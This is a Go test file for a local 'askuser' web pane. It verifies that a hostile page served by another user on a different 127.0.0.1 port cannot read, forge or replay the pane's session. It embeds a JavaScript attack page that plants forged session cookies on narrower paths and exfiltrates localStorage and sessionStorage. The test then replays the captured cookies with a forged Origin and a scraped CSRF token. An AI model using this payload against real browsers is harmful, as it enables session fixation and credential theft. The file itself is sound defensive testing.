package web

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"askuser/tests/testdaemon"
	"askuser/tests/testenv"
	"askuser/tests/webpane"
)

// Only the page holds the session (docs/contract.md §12). Cookies are scoped by
// host, not port: a page another local user serves on 127.0.0.1:Q gets every
// cookie of 127.0.0.1, and may set cookies that 127.0.0.1:P receives. The
// session must be something such a page can neither present nor spoil.

// evilPage is a second HTTP server on 127.0.0.1, as another local user would
// run one. It records what the browser sends it, and its page sets cookies
// on narrower paths of the same host (which browsers send first), reads the
// storage it can reach, and reports.
type evilPage struct {
	srv     *httptest.Server
	mu      sync.Mutex
	cookies []string // Cookie headers the browser sent it
	auths   []string // Authorization headers
	report  chan string
}

const evilHTML = `<!doctype html><title>evil</title><script>
for (const p of ['/', '/api', '/api/', '/api/events', '/api/answer', '/api/action']) {
  document.cookie = 'askuser_session=forged; path=' + p;
  document.cookie = 'askuser_token=forged; path=' + p;
}
const storage = JSON.stringify({local: Object.assign({}, localStorage), session: Object.assign({}, sessionStorage)});
fetch('/report', {method: 'POST', body: storage}).then(() => { document.title = 'reported'; });
</script>`

func startEvilPage(t *testing.T) *evilPage {
	t.Helper()
	ev := &evilPage{report: make(chan string, 1)}
	ev.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ev.mu.Lock()
		if c := r.Header.Get("Cookie"); c != "" {
			ev.cookies = append(ev.cookies, c)
		}
		if a := r.Header.Get("Authorization"); a != "" {
			ev.auths = append(ev.auths, a)
		}
		ev.mu.Unlock()
		if r.URL.Path == "/report" {
			b, _ := io.ReadAll(r.Body)
			select {
			case ev.report <- string(b):
			default:
			}
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, evilHTML)
	}))
	t.Cleanup(ev.srv.Close)
	return ev
}

func TestWebAnotherLoopbackPageGetsNothing(t *testing.T) {
	t.Parallel()
	e, w, b := webpane.Setup(t, 390, 844)
	cmd, out, errb := e.StartClient("", "ask", "--question", secretQuestion, "--option", "Yes", "--option", "No", "--request-id", "req-evil")
	b.WaitText(secretQuestion)

	// The user, logged in to the web pane, opens the other user's page in
	// the same browser.
	ev := startEvilPage(t)
	b.Run(chromedp.Navigate(ev.srv.URL + "/"))
	var stored string
	select {
	case stored = <-ev.report:
	case <-time.After(testdaemon.Wait):
		t.Fatalf("the other page never reported; it shows:\n%s", b.TextNow())
	}
	if strings.Contains(stored, w.Secret()) || strings.Contains(stored, "askuser") {
		t.Errorf("the page on %s read the web pane's storage: %s", ev.srv.URL, stored)
	}

	// Whatever the browser sent it is replayed, as the attacker would
	// replay it with curl: the Origin forged, a CSRF token fetched from
	// the page if it has one.
	ev.mu.Lock()
	creds := append([]string{}, ev.cookies...)
	auths := append([]string{}, ev.auths...)
	ev.mu.Unlock()
	if len(auths) > 0 {
		t.Errorf("the browser sent %s an Authorization header: %q", ev.srv.URL, auths)
	}
	// A stream that opens is read for a moment only: its status says enough.
	plain := &http.Client{Timeout: 3 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	origin := strings.TrimSuffix(w.Base, "/")
	csrfRE := regexp.MustCompile(`name="askuser-csrf" content="([^"]+)"`)
	for _, cookie := range creds {
		_, page, _ := do(t, plain, "GET", w.Base, map[string]string{"Cookie": cookie}, "")
		csrf := ""
		if m := csrfRE.FindStringSubmatch(page); m != nil {
			csrf = m[1]
		}
		st, body, _ := do(t, plain, "GET", w.Base+"api/events", map[string]string{"Cookie": cookie, "X-Askuser-Csrf": csrf}, "")
		if st == 200 {
			t.Errorf("cookies sent to %s (%q) open the event stream", ev.srv.URL, cookie)
		}
		noLeak(t, "the events with the other page's cookies", st, st, body)
		hdr := map[string]string{"Cookie": cookie, "Origin": origin, "Content-Type": "application/json", "X-Askuser-Csrf": csrf}
		for _, path := range []string{"api/answer", "api/action"} {
			st, body, _ := do(t, plain, "POST", w.Base+path, hdr, `{"id":"req-evil","answers":[{"selected":[0]}]}`)
			if st == 200 {
				t.Errorf("cookies sent to %s (%q) answer the question: POST /%s %d %s", ev.srv.URL, cookie, path, st, body)
			}
		}
	}
	if out, _, _ := e.Client("", "list", "--json"); !strings.Contains(out, "req-evil") {
		t.Fatalf("the other page's credentials answered the question: %s", out)
	}

	// Its cookies, set on narrower paths of 127.0.0.1, do not log the web
	// pane out: opened again (no secret in the address), it shows the
	// question and takes the answer.
	b.Run(chromedp.Navigate(w.Base))
	b.WaitText(secretQuestion, "Yes")
	b.Settled()
	b.Click(`button.option[data-option="1"]`)
	b.ClickText("Send")
	r, code := testenv.WaitClient(t, cmd, out, errb)
	if code != 0 || r.Answers[0].Answer.Text != "No" {
		t.Fatalf("exit %d, result %+v", code, r)
	}
}

// askuserd web --rotate ends every session even after the state dir was
// deleted and written back by the daemon (the web pane started before: any
// watch on the old directory is gone).
func TestWebRotateAfterStateDirWrittenBack(t *testing.T) {
	t.Parallel()
	e, w, b := webpane.Setup(t, 390, 844)
	e.Client("", "ask", "--no-wait", "--question", "Still waiting?", "--request-id", "req-rot")
	b.WaitText("Still waiting?")
	old := w.Secret()
	tok := w.Login()

	// Deleted: moved away first, as the daemon writes it back at once.
	dir := filepath.Join(e.State, "askuser")
	if err := os.Rename(dir, dir+".deleted"); err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(dir + ".deleted"); err != nil {
		t.Fatal(err)
	}
	// The daemon writes the state dir back at once (it holds a request).
	waitExists(t, dir)
	if _, stderr, code := testenv.RunAskuserd(e, "web", "--rotate"); code != 0 {
		t.Fatalf("askuserd web --rotate: exit %d: %s", code, stderr)
	}
	if w.Secret() == old {
		t.Fatal("--rotate kept the secret")
	}

	// The open page is logged out; the old session is refused.
	b.WaitText("Logged out")
	b.WaitGone("Still waiting?")
	short := &http.Client{Timeout: 3 * time.Second}
	st, body, _ := do(t, short, "GET", w.Base+"api/events", tok, "")
	noLeak(t, "the events with a session from before --rotate", st, 401, body)
	st, body, _ = do(t, short, "POST", w.Base+"login", map[string]string{"Origin": strings.TrimSuffix(w.Base, "/")},
		fmt.Sprintf(`{"secret":%q}`, old))
	noLeak(t, "the old secret", st, 401, body)

	// The new secret lets a browser in.
	b2 := webpane.NewBrowser(t, 390, 844)
	b2.Open(w)
	b2.WaitText("Still waiting?")
}

// waitExists waits until path exists.
func waitExists(t *testing.T, path string) {
	t.Helper()
	testdaemon.Eventually(t, path+" to come back", func() (bool, string) {
		_, err := os.Stat(path)
		return err == nil, fmt.Sprint(err)
	})
}
